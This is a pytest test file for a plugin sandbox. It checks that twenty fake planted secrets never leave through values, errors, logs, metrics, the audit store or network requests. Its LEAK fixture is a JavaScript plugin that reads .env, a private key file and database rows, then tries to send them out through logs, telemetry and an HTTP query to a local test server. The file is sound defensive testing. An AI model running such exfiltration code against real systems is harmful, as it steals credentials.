"""Twenty secrets, planted wherever a plugin can look, and plugins that try to carry them out: nothing has any."""

from __future__ import annotations

import base64
import json
import sqlite3
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import pytest
from host_support import Bench, granted, made
from http_site import answer, site
from hypothesis import given, settings
from hypothesis import strategies as st

from belljar import CallInfo, tool
from belljar.audit import secret_forms, secret_spans
from belljar.audit._shapes import SHAPES
from belljar.errors import BelljarError, CapabilityRefusedError, SecretFoundError, ToolExecutionError
from belljar.plugins import DatabaseGrant, Grant, ManifestLimits, Policy, SecretGrant
from belljar.plugins._clean import Cleaner, misread
from belljar.plugins._grants import known_secrets

KINDS: Final = (
    "aws access key", "github token", "gitlab token", "openai key", "slack token", "stripe key", "google api key",
    "npm token", "pypi token", "hugging face token", "sendgrid key", "telegram bot token", "jwt", "private key",
    "connection string",
)  # fmt: skip
SHAPED: Final = {shape.name: shape.example for shape in SHAPES if shape.name in KINDS}
REGISTERED: Final = {
    "policy": "p0licy-s3cret-value",
    "other grant": "an0ther-grants-value",
    "host": "correct horse battery staple",
    "database": "db-p4ssword-here",
    "with signs": 'a"b\\c/d+e=f&g%',
}
WHOLE: Final = SHAPED | REGISTERED
"""As they stand in texts: the password of an address in its address."""
HOST: Final = "127.0.0.1"


def planted() -> dict[str, str]:
    """By kind, what must be seen nowhere: of a form, the part that is the secret."""
    found = {}
    for name, example in SHAPED.items():
        span = secret_spans(example)[0]
        found[name] = example[span.start : span.end]
    return found | REGISTERED


def seen(data: bytes) -> list[str]:
    """Kinds of secrets in these bytes, in any form that they travel in; of a key of many rows, each row."""
    return [
        kind
        for kind, secret in planted().items()
        for form in {form for row in secret.splitlines() for form in secret_forms(row)}
        if form.encode() in data or form.encode("utf-16-le") in data
    ]


def test_twenty_kinds_are_planted_and_the_search_finds_each() -> None:
    """A search that finds nothing anywhere would prove nothing."""
    assert len(planted()) == 20
    for kind, secret in planted().items():
        assert kind in seen(f"x {secret} y".encode())
        assert kind in seen(json.dumps({"a": secret}).encode())


def everything(folder: Path) -> bytes:
    """All bytes of all files below a folder."""
    return b"\n".join(file.read_bytes() for file in sorted(folder.rglob("*")) if file.is_file())


LEAK: Final = """
const seen = {};
const keep = async (name, work) => {
    try { seen[name] = await work(); } catch (error) { seen[name] = [error.code, error.message, error.details]; }
};
await keep("env", () => tools.readFile({ path: ".env" }));
await keep("json", async () => JSON.parse((await tools.readFile({ path: "settings.json" })).text));
await keep("bytes", () => tools.readFile({ path: ".env", encoding: "bytes" }));
await keep("offset", () => tools.readFile({ path: ".env", encoding: "bytes", offset: 7 }));
await keep("line", () => tools.readFile({ path: "id.pem", start: 2, end: 2 }));
await keep("grep", () => tools.grepFiles({ pattern: ".", context: 3 }));
await keep("list", () => tools.listDir({ depth: 3 }));
await keep("named", () => tools.fileSearch({ query: "a" }));
await keep("http", () => tools.http({ url: "URL/" }));
await keep("rows", () => tools.query({ database: "sales", sql: "SELECT * FROM note" }));
await keep("tool", () => tools.hand_out());
await keep("raise", () => tools.raise_one({ coded: false }));
await keep("coded", () => tools.raise_one({ coded: true }));
await keep("config", () => api.getConfig("note"));
await keep("named config", () => api.getConfig("API_TOKEN"));
await keep("check", () => api.validateInput(seen.env.text, { type: "number" }));
const text = JSON.stringify(seen, (_, value) => value instanceof Uint8Array ? String.fromCharCode(...value) : value);
for (const word of text.split(/[^A-Za-z0-9_.:=-]+/).slice(0, 12)) {
    await keep("metric", () => api.metrics.emit(word.toLowerCase().slice(0, 60), 1));
}
for (let at = 0; at < text.length && at < 60_000; at += 3_000) api.log("info", text.slice(at, at + 3_000));
context.telemetry.emitProgress(text.slice(0, 900));
await keep("sent", () => tools.http({ url: "URL/?q=" + encodeURIComponent(text.slice(0, 500)) }));
"""


REFUSED: Final = ("raise", "coded", "named config", "metric", "sent")


class Planted:
    """A workspace, a server, a database, a host's tools and a policy, all of them full of secrets."""

    def __init__(self, folder: Path, url: str, port: int) -> None:
        (folder / "store").mkdir()
        self.bench = Bench(folder / "store")
        work = folder / "work"
        (work / "deep").mkdir(parents=True)
        lines = "\n".join(f"VALUE_{number}: {each}" for number, each in enumerate(WHOLE.values()))
        (work / ".env").write_text(lines)
        (work / "settings.json").write_text(json.dumps({"all": list(WHOLE.values())}))
        (work / "id.pem").write_text(SHAPED["private key"])
        for kind, value in REGISTERED.items():
            (work / "deep" / kind).write_bytes(base64.b64encode(value.encode()))
        (work / "deep" / planted()["github token"]).write_text("a")
        sales = folder / "sales.db"
        with sqlite3.connect(sales) as connection:
            connection.execute("CREATE TABLE note (text TEXT, raw BLOB)")
            rows = [(value, value.encode()) for value in WHOLE.values()]
            connection.executemany("INSERT INTO note VALUES (?, ?)", rows)
        connection.close()
        own = SecretGrant(name="FX", host=HOST, env="BELLJAR_TEST_FX", prefix="Bearer ", place="policy.toml:2")
        reach = {"hosts": (HOST,), "schemes": ("http",), "ports": (port,), "allow_private": (HOST,), "secrets": (own,)}
        databases = (
            DatabaseGrant(name="sales", url=f"sqlite:///{sales}", path=sales, rows=100, place="policy.toml:3"),
            DatabaseGrant(
                name="far", url=f"postgresql://app:{REGISTERED['database']}@127.0.0.1:1/x", place="policy.toml:4"
            ),
        )
        self.grant: dict[str, Any] = {
            **reach, "workspace": work, "databases": databases, "config": {"note": f"use {SHAPED['stripe key']}"},
            "timeout_ms": 10_000, "memory_mb": 50, "tools": ("hand_out", "raise_one"),
        }  # fmt: skip
        self.url = url

    def plugin(self, ending: str) -> Any:
        plugin, policy = granted(
            LEAK.replace("URL", self.url) + ending,
            "network", "secrets", "files.read", "database", "metrics",
            grant=self.grant, tools=("hand_out", "raise_one"), hosts=(HOST,), secrets=("FX",),
            limits=ManifestLimits(timeout_ms=10_000, memory_mb=50),
        )  # fmt: skip
        another = SecretGrant(name="Z", host=HOST, env="BELLJAR_TEST_OTHER", place="policy.toml:7")
        other = Grant(plugin="another", secrets=(another,), place="policy.toml:6")
        return plugin, Policy(grants=(*policy.grants, other), file=policy.file)


def host_tools() -> list[Callable[..., Any]]:
    @tool
    def hand_out(call: CallInfo) -> dict[str, Any]:
        for value in WHOLE.values():
            call.progress(f"now {value}")
        return {"list": [{value: value} for value in WHOLE.values()], "bytes": json.dumps(WHOLE).encode()}

    @tool
    def raise_one(coded: bool) -> None:
        told = " ".join(WHOLE.values())
        if coded:
            raise ToolExecutionError(told, hint=told, details={"all": WHOLE})
        raise RuntimeError(told)

    return [hand_out, raise_one]


@pytest.mark.slow
@pytest.mark.parametrize("ending", ["return seen;", "throw new Error(text);"])
def test_no_planted_secret_gets_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ending: str) -> None:
    """Not into the value, the error, console, progress, metrics and events, nor into the store, its write-ahead log,
    the audit log and its export, nor to the server."""
    monkeypatch.setenv("BELLJAR_TEST_FX", REGISTERED["policy"])
    monkeypatch.setenv("BELLJAR_TEST_OTHER", REGISTERED["other grant"])
    body = "\n".join([*WHOLE.values(), *map(quote, REGISTERED.values())]).encode()
    heard: list[Any] = []
    lines: list[str] = []
    with site({"/": answer(body, f"X-Token: {planted()['jwt']}")}) as here:
        world = Planted(tmp_path, here.url("", host=HOST), here.port)
        plugin, policy = world.plugin(ending)
        known = [REGISTERED["host"], REGISTERED["with signs"]]
        told = {"secrets": known, "tools": host_tools(), "on_metric": heard.append}
        with world.bench.store as store:
            outcome = world.bench.run(plugin, policy, host=told, on_event=heard.append)
            store.audit.export(lines.append)
            written = everything(tmp_path / "store")
            asked = repr([(each.line, each.body) for each in here.asked])
    outside = [json.dumps(outcome.to_dict()), repr(outcome), str(outcome.error), repr(heard), "".join(lines), asked]

    assert outcome.ok is ending.startswith("return")
    assert b"[redacted]" in written
    assert len(written) > 50_000
    assert seen(written + everything(tmp_path / "store")) == []
    assert [seen(each.encode()) for each in outside] == [[]] * len(outside)
    if outcome.ok:
        assert seen(repr(outcome.value).encode()) == []
        missed = [name for name, found in outcome.value.items() if isinstance(found, list) and name not in REFUSED]
        assert missed == []  # the plugin did get to see all those places


@settings(derandomize=True, deadline=None, max_examples=100)
@given(st.binary(max_size=40), st.binary(max_size=40), st.sampled_from(("utf-8", "utf-16-le", "utf-16-be")))
def test_no_bytes_around_a_secret_hide_it(before: bytes, after: bytes, code: str) -> None:
    """They are refused, or come without it; text keeps its number of lines."""
    cleaner = Cleaner(secrets=("correct horse",))
    data = before + "correct horse".encode(code) + after
    with suppress(CapabilityRefusedError):
        clean = cleaner.data(data)
        assert "correct horse".encode(code) not in clean
        assert len(clean.decode().splitlines()) == len(data.decode().splitlines())


@pytest.mark.parametrize("code", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252"])
def test_what_was_read_in_the_wrong_encoding_has_no_secret(code: str) -> None:
    """Git and programs give text, and what is no UTF-8 was decoded as if it were."""
    secrets = ["correct-horse-9431", "naïve-päß-word"]
    cleaner = Cleaner(secrets=(*secrets, *misread(secrets)))

    for secret in secrets:
        said = cleaner.text(f"note {secret} end".encode(code).decode("utf-8", "replace")).replace("\0", "")
        assert said.lstrip("\ufffd") == "note [redacted] end"
        with suppress(CapabilityRefusedError):
            assert secret.encode(code) not in cleaner.data(f"note {secret}".encode(code))
    assert misread(["日", "abc"]) == set()


@pytest.mark.parametrize("between", ["\0", "\x01", "\r", "\x1b", "\u200e", "\u202e", "\u2028", "\u200b"])
def test_nothing_is_put_together_again_by_what_is_taken_out(between: str) -> None:
    """A plugin that hides a secret's two halves behind a mark gains nothing when the mark goes."""
    cleaner = Cleaner(secrets=("correct horse",))
    halves = f"correct{between} horse"

    kept = "[redacted]" + {"\r": "\n", "\u2028": "\u2028"}.get(between, "")  # the ends of lines
    assert cleaner.value([halves, {halves: 1}]) == [kept, {kept: 1}]
    assert cleaner.shown([halves, {halves: 1}]) == ["[redacted]", {"[redacted]": 1}]


@pytest.mark.parametrize("prefix", ["", "Bearer ", "Key-", "ApiKey:", "a b ", "k="])
def test_a_secret_of_the_policy_is_known_without_its_prefix(monkeypatch: pytest.MonkeyPatch, prefix: str) -> None:
    """A file has the secret, and not the header."""
    monkeypatch.setenv("BELLJAR_TEST_FX", "v3ry-secret-value")
    grant = SecretGrant(name="FX", host="a.test", env="BELLJAR_TEST_FX", prefix=prefix, place="policy.toml:2")
    policy = Policy(grants=(Grant(plugin="other", secrets=(grant,), place="policy.toml:1"),), file="policy.toml")

    assert Cleaner(secrets=known_secrets(policy, ())).text("it is v3ry-secret-value!") == "it is [redacted]!"


def test_an_outcome_with_bytes_is_shown_without_their_secrets() -> None:
    """Bytes that are no text and hold one are not there; empty ones stay empty."""
    cleaner = Cleaner(secrets=("correct horse",))

    assert cleaner.shown([b"", b"\xff", b"\xffcorrect horse", b"a correct horse"]) == [
        b"", b"\xff", b"[redacted]", b"a [redacted]",
    ]  # fmt: skip


def test_no_planted_secret_gets_in(tmp_path: Path) -> None:
    """As input, each is refused before anything is written of it."""
    bench = Bench(tmp_path)
    with bench.store:
        for whole in WHOLE.values():
            with pytest.raises(SecretFoundError) as refused:
                bench.run(made("return input;"), input={"a": f"see {whole}"}, host={"secrets": [*REGISTERED.values()]})
            told: BelljarError = refused.value
            assert seen(json.dumps(told.to_dict()).encode()) == []
        assert seen(everything(tmp_path)) == []
